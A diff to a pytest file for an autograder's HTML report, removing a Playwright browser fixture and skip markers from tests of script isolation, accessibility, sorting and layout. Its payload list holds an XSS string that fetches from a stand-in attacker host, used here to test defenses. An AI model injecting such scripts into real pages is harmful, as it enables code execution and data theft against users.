@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import itertools
-import shutil
-from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -19,10 +17,6 @@ from autograder.overview.similar import Match, Pair, Similar
 from autograder.report import Report
 from tests.overview.synthetic import overview
 
-BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
-needs_browser = pytest.mark.skipif(
-    BROWSER is None, reason="no browser: install Chromium (apt-get install chromium)"
-)
 RUN = "window.ran=(window.ran||[]).concat([1])"
 PAYLOADS = (
     f"<script>{RUN};fetch('http://attacker.invalid/x');alert(1)</script>",
@@ -84,24 +78,12 @@ def attacked(report: Report, student: str, payload: str) -> Report:
 
 
 @pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    sync_api = pytest.importorskip(
-        "playwright.sync_api", reason='no Playwright: pip install -e ".[browser]"', exc_type=ImportError
-    )
-    with sync_api.sync_playwright() as play:
-        running = play.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
-        yield running
-        running.close()
-
-
-@pytest.fixture(scope="module")
 def path(honest: Overview, tmp_path_factory: pytest.TempPathFactory) -> Path:
     made = tmp_path_factory.mktemp("page") / "report.html"
     write(render(honest), made)
     return made
 
 
-@needs_browser
 def test_nothing_of_a_student_runs_or_is_loaded(hostile: Overview, browser: Any, tmp_path: Path) -> None:
     made = tmp_path / "hostile.html"
     write(render(hostile), made)
@@ -126,7 +108,6 @@ def test_nothing_of_a_student_runs_or_is_loaded(hostile: Overview, browser: Any,
     page.close()
 
 
-@needs_browser
 def test_even_unescaped_it_would_not_run_under_the_policy(
     hostile: Overview, browser: Any, tmp_path: Path
 ) -> None:
@@ -147,19 +128,18 @@ def test_even_unescaped_it_would_not_run_under_the_policy(
     assert ran[1]
 
 
-@needs_browser
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 def test_axe_finds_nothing_to_mend(path: Path, browser: Any, scheme: str) -> None:
-    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="no axe-playwright-python")
+    from axe_playwright_python.sync_playwright import Axe
+
     page = browser.new_page(color_scheme=scheme)
     page.goto(path.as_uri())
     page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
-    found = axe.Axe().run(page).response["violations"]
+    found = Axe().run(page).response["violations"]
     assert [(v["id"], v["nodes"][0]["html"][:200]) for v in found] == []
     page.close()
 
 
-@needs_browser
 def test_a_heading_sorts_its_table_and_says_so(path: Path, browser: Any) -> None:
     page = browser.new_page()
     page.goto(path.as_uri())
@@ -176,7 +156,6 @@ def test_a_heading_sorts_its_table_and_says_so(path: Path, browser: Any) -> None
     page.close()
 
 
-@needs_browser
 def test_the_list_of_students_is_narrowed_by_a_name(path: Path, honest: Overview, browser: Any) -> None:
     page = browser.new_page()
     page.goto(path.as_uri())
@@ -187,7 +166,6 @@ def test_the_list_of_students_is_narrowed_by_a_name(path: Path, honest: Overview
     page.close()
 
 
-@needs_browser
 @pytest.mark.parametrize("width", [360, 1280])
 def test_it_fits_a_telephone_and_paper_shows_all_rows(path: Path, browser: Any, width: int) -> None:
     page = browser.new_page(viewport={"width": width, "height": 800})
